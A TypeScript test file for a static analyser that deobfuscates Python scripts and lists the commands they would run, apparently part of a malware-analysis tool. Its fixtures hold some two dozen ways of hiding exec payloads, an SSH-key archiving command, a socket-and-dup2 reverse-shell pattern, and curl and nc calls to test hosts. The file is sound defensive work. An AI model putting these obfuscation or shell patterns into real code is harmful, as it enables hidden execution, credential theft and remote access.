import { analyzeScript } from '../analysis/analyze-script.js';
import { deflateSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { Budget } from '../core/budget.js';
import type { DerivedText } from '../core/evaluation.js';
import { evaluatePython } from './python.evaluator.js';

const derive = (text: string): readonly DerivedText[] => evaluatePython(text, new Budget()).derived;
const executed = (text: string): string[] => derive(text).find(({ kind }) => kind === 'executed')?.text.split('\n') ?? [];
const payloads = (text: string): string[] => derive(text).filter(({ kind }) => kind === 'payload').map((payload) => payload.text);
const base64 = (data: string | Buffer): string => Buffer.from(data).toString('base64');
const hex = (text: string): string => Buffer.from(text).toString('hex');

const opened = 'print("opened here")';

describe('evaluatePython', () => {
  it('fills in what a script computes for the calls it makes', () => {
    const script = `
import subprocess as sp, os
k = [x ^ 0x21 for x in b"\\x42\\x54\\x53\\x4d"]
sp.run("".join(map(chr, k)) + f" http://a.example.test/{'a' * 2}{10:02x}", shell=True)
sp.Popen(["bash", "-c", "id; uname"])
getattr(__import__("o" + "s"), "sys" + "tem")("who" "ami")`;
    expect(executed(script)).toEqual(['subprocess.run("curl http://a.example.test/aa0a", shell=True)', 'subprocess.Popen(["bash", "-c", "id; uname"])', 'os.system("whoami")']);
    expect(payloads(script)).toEqual(['curl http://a.example.test/aa0a', "bash -c 'id; uname'", 'whoami']);
    expect(derive(script).filter(({ kind }) => kind === 'payload').map(({ language }) => language)).toEqual(['bash', 'bash', 'bash']);
  });

  it.each([
    ['base64 and zlib behind a reversing lambda', `_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'${[...base64(deflateSync(opened))].reverse().join('')}'))`],
    ['gzip', `import gzip, base64\nexec(gzip.decompress(base64.b64decode("${base64(gzipSync(opened))}")))`],
    ['hex', `exec(bytes.fromhex("${hex(opened)}").decode())`],
    ['binascii', `from binascii import unhexlify as u\neval(compile(u(b'${hex(opened)}'), 'x', 'exec'))`],
    ['rot13', `import codecs\nexec(codecs.decode('${opened.replace(/[a-z]/g, (char) => String.fromCharCode(((char.charCodeAt(0) - 97 + 13) % 26) + 97))}', "rot_13"))`],
    ['a loop over repeated items', `s = ""\nfor c in [${[...'x = 1111111111111111 + 2222'].map((char) => char.charCodeAt(0)).join()}]:\n    s += chr(c)\nq = [chr(c) for c in [49, 49, 49, 49, 49, 49]]\nexec(s + "\\n" * 0 + '; print("opened here")'[2:] if len(q) != 6 else 'print("opened here")')`],
    ['numbers', `exec("".join([chr(x - 3) for x in (${[...opened].map((char) => char.charCodeAt(0) + 3).join()})]))`],
    ['a cycled key', `from itertools import cycle\nd = bytes([${[...opened].map((char, index) => char.charCodeAt(0) ^ 'key'.charCodeAt(index % 3)).join()}])\nexec(bytes(a ^ b for a, b in zip(d, cycle(b"key"))))`],
    ['a function with a loop', `def f(s, k):\n    o = ""\n    for i, c in enumerate(s):\n        o += chr(ord(c) ^ ord(k[i % len(k)]))\n    return o\nexec(f(bytes.fromhex("${Buffer.from([...opened].map((char, index) => char.charCodeAt(0) ^ 'zq'.charCodeAt(index % 2))).toString('hex')}").decode("latin-1"), "zq"))`],
    ['a large number', `exec((0x${hex(opened)}).to_bytes(${opened.length}, "big"))`],
    ['translate', `t = str.maketrans("abcdef", "bcdefa")\nexec('${opened.replace(/[a-f]/g, (char) => 'fabcde'['abcdef'.indexOf(char)] as string)}'.translate(t))`],
    ['globals', `globals()["__builtins__"].__dict__["ex" + "ec"]("%s(%r)" % ("print", "opened here")[:2])`],
    ['base85', `import base64\nexec(base64.b85decode("aB^vGbSNTkaAj^~WFTl|a%CbZ"))`],
    ['base32', `import base64\nexec(base64.b32decode("OBZGS3TUFARG64DFNZSWIIDIMVZGKIRJ"))`],
    ['ascii85', `import base64\nexec(base64.a85decode("E,oZ1F=8>OE+NouA0>PsEb-FD"))`],
    ['a decorator', `def runs(f):\n  return lambda *a: exec(f(*a))\n@runs\ndef join(codes):\n  return "".join(chr(c) for c in codes)\njoin([${[...opened].map((char) => char.charCodeAt(0)).join()}])`],
    ['a class made by type', `A = type("A", (), {"__init__": lambda self, d: exec(d)})\nA("".join(chr(c) for c in [${[...opened].map((char) => char.charCodeAt(0)).join()}]))`],
    ['a generator without end', `def keys():\n  k = 7\n  while True:\n    yield k\n    k = (k * 5 + 3) % 256\ng = keys()\nexec(bytes(c ^ next(g) for c in [${[...opened].map((char, i) => char.charCodeAt(0) ^ Array.from({ length: i }).reduce<number>((k) => (k * 5 + 3) % 256, 7)).join()}]))`],
    ['its own file', `data = open(__file__).read().split("#~")[2]\nexec(bytes.fromhex(data.strip()).decode())\n#~${Buffer.from(opened).toString('hex')}\n`],
    ['a class', `class A:\n  key = 1\n  def __init__(self, d): self.d = d\n  def run(self):\n    return "".join(chr(c - self.key) for c in self.d)\nexec(A([${[...opened].map((char) => char.charCodeAt(0) + 1).join()}]).run())`],
    ['a bytearray', `b = bytearray(b"${'\\x00'.repeat(2)}")\nb.extend([${[...opened].map((char) => char.charCodeAt(0) ^ 9).join()}])\nfor i in range(len(b)):\n  b[i] ^= 9\nexec(bytes(b[2:]))`],
  ])('hands on code made by %s', (name, script) => {
    expect(payloads(script)).toContain(name === 'globals' ? "print('opened here')" : opened);
  });

  it('runs statements that were compiled as such, also through eval', () => {
    const { layers } = analyzeScript(Buffer.from(`eval(compile('import os\\nx = "who"\\nos.system(x + "ami")', 'x', 'exec'))`), { language: 'python' });
    expect(layers.map(({ text }) => text)).toContain('whoami');
  });

  it('keeps what only a run would tell as references', () => {
    const script = `
import os, sys
name = sys.argv[1] if len(sys.argv) > 1 else "none"
os.system("tar c %s/.ssh > %s" % (os.environ["HOME"], name))
def later(host, port=80):
    os.system(f"nc {host} {port}")`;
    expect(payloads(script)).toEqual(['tar c ${HOME}/.ssh > ${sys_argv_1_if_len_sys_argv_1_else_none}', 'nc ${host} ${port}']);
  });

  it('tells remote code, unknown code and closed formats apart', () => {
    const script = `
import marshal, requests, base64
exec(requests.get("http://a.example.test/x").text)
exec(input())
exec(marshal.loads(b"\\x00\\x01"))`;
    expect(executed(script)[0]).toBe('requests.get("http://a.example.test/x")');
    expect(evaluatePython(script, new Budget()).notDecoded.map(({ reason }) => reason)).toEqual(expect.arrayContaining(['remoteContent', 'unknownValue', 'unsupported']));
  });

  it('lists files, sockets and threads, and hands on what is written', () => {
    const script = `
import socket, threading, os
with open("/tmp/a.sh", "w") as f:
    f.write("#!/bin/sh\\n")
    f.write("echo hello\\n")
s = socket.socket()
s.connect(("192.0.2.7", 4444))
os.dup2(s.fileno(), 0)
def job(n): os.system("echo " + n)
threading.Thread(target=job, args=("seven",)).start()`;
    expect(executed(script)).toEqual(expect.arrayContaining(['open("/tmp/a.sh", "w")', 'socket.socket().connect(("192.0.2.7", 4444))', 'os.dup2(socket.socket().fileno(), 0)', 'os.system("echo seven")']));
    expect(payloads(script)).toEqual(['echo seven', '#!/bin/sh\necho hello\n']);
  });

  it('folds what it computed into the source, with exact segments elsewhere', () => {
    const script = 'import os\nx = "a" + chr(98) + "c"  # why\nos.system("run " + x + str(7))\n';
    const simplified = derive(script).find(({ kind }) => kind === 'simplified');
    expect(simplified?.text).toBe('import os\nx = "abc"  # why\nos.system("run abc7")\n');
    for (const segment of simplified?.segments ?? []) if (segment.exact) expect(simplified?.text.slice(segment.start, segment.end)).toBe(script.slice(segment.parentStart, segment.parentEnd));
  });

  it('reads the print and exec statements of Python 2', () => {
    expect(executed('print "a" + "b"\nexec "print \'inner text\'"')).toEqual(['print("ab")', 'exec("print \'inner text\'")']);
  });

  it('gives code back through chains of encoders', () => {
    const literal = (text: string): string => JSON.stringify(text);
    // A mark that stands in the text already would come back as an "e", in Python too.
    const unused = (text: string): string => ['<>', '~~', '{}', '@@'].find((mark) => !text.includes(mark)) as string;
    const encoders: ((text: string, n: number) => string)[] = [
      (text) => `${literal([...text].reverse().join(''))}[::-1]`,
      (text) => `"".join(map(chr, [${[...text].map((char) => char.charCodeAt(0)).join()}]))`,
      (text) => `__import__("base64").b64decode("${base64(text)}").decode()`,
      (text) => `__import__("zlib").decompress(__import__("base64").b64decode(b"${base64(deflateSync(text))}")).decode("utf-8")`,
      (text, n) => `bytes(c ^ ${n} for c in bytes.fromhex("${Buffer.from([...text].map((char) => char.charCodeAt(0) ^ n)).toString('hex')}")).decode("latin1")`,
      (text) => `bytes([${[...text].map((char) => char.charCodeAt(0)).join()}]).decode()`,
      (text, n) => `(lambda s, k: "".join([chr(ord(c) - k) for c in s]))("${[...text].map((char) => `\\u${(char.charCodeAt(0) + n).toString(16).padStart(4, '0')}`).join('')}", ${n})`,
      (text) => `"%s" % ${literal(text)}.replace("e", "${unused(text)}").replace("${unused(text)}", "e")`,
    ];
    fc.assert(
      fc.property(fc.stringMatching(/^[a-z][a-z /"'\\-]{6,30}[a-z]$/), fc.array(fc.nat(7), { minLength: 1, maxLength: 3 }), fc.integer({ min: 1, max: 120 }), (plain, ways, n) => {
        const code = `__import__("os").system(${JSON.stringify(plain)})`;
        const encode = (text: string, way: number): string => (encoders[way] as (typeof encoders)[number])(text, n);
        const [first, ...others] = ways as [number, ...number[]];
        let expression = encode(code, first);
        const layers = [code];
        for (const way of others) {
          layers.unshift(`exec(${expression})`);
          expression = encode(layers[0] as string, way);
        }
        let [found] = derive(`exec(${expression})`).filter(({ kind }) => kind === 'payload');
        for (const layer of layers) {
          expect(found?.text).toBe(layer);
          found = found?.evaluation?.derived.find(({ kind }) => kind === 'payload');
        }
        expect(found?.text).toBe(plain);
      }),
      { numRuns: 200 },
    );
  });
});
